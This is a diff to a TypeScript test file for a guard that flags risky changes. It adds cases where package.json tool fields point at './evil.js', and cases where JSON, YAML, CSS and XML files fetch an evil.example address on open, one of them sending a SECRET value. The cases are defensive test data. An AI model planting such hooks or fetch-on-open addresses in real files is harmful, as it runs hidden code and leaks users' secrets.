@@ -13,6 +13,12 @@ describe("a manifest", () => {
     ],
     ["no script any more", manifest({ name: "a" })],
     ["hooks", manifest({ name: "a", scripts: { test: "node --test" }, husky: { hooks: {} } })],
+    ...["gitHooks", "nano-staged", "wireit", "nx", "eslintConfig", "babel", "config"].map(
+      (field): [string, string] => [
+        `a field that some tool runs: ${field}`,
+        manifest({ name: "a", scripts: { test: "node --test" }, [field]: { a: "./evil.js" } }),
+      ],
+    ),
     ["a text that is no JSON", `${plain},`],
   ])("is guarded with %s", (_what, after) => {
     expect(guardedChange("package.json", plain, after)?.kind).toBe("scripts");
@@ -40,7 +46,13 @@ describe("a manifest", () => {
   });
 
   it("is ordinary where only its other fields change", () => {
-    const after = manifest({ name: "b", version: "1.0.0", scripts: { test: "node --test" } });
+    const after = manifest({
+      name: "b",
+      version: "1.0.0",
+      scripts: { test: "node --test" },
+      dependencies: { a: "1" },
+      exports: { ".": "./a.js" },
+    });
     expect(guardedChange("package.json", plain, after)).toBeUndefined();
     expect(guardedChange("data.json", plain, manifest({ scripts: 1 }))).toBeUndefined();
   });
@@ -52,6 +64,10 @@ describe("an address that is fetched when a file is opened", () => {
     ["a.json", `{ "$schema": "${address}" }`],
     ["a.json", `{ "\\u0024schema" : "https:\\/\\/evil.example\\/?k=SECRET" }`],
     ["a.json", `{ "$schema": "//evil.example/s" }`],
+    ["a.json", `{ "$schema" /* of it */ : // here\n /**/ "${address}" }`],
+    ["a.yaml", `$schema: >-\n  ${address}`],
+    ["a.css", `@import/**/url(${address});`],
+    ["a.xml", `<xi:include href="${address}"/>`],
     ["a.json", `{ "$schema": "\\\\\\\\evil.example\\\\share" }`],
     ["a.json", `{ "$schema": "file://evil.example/share" }`],
     ["deep.json", `{ "a": { "$schema": "${address}" } }`],
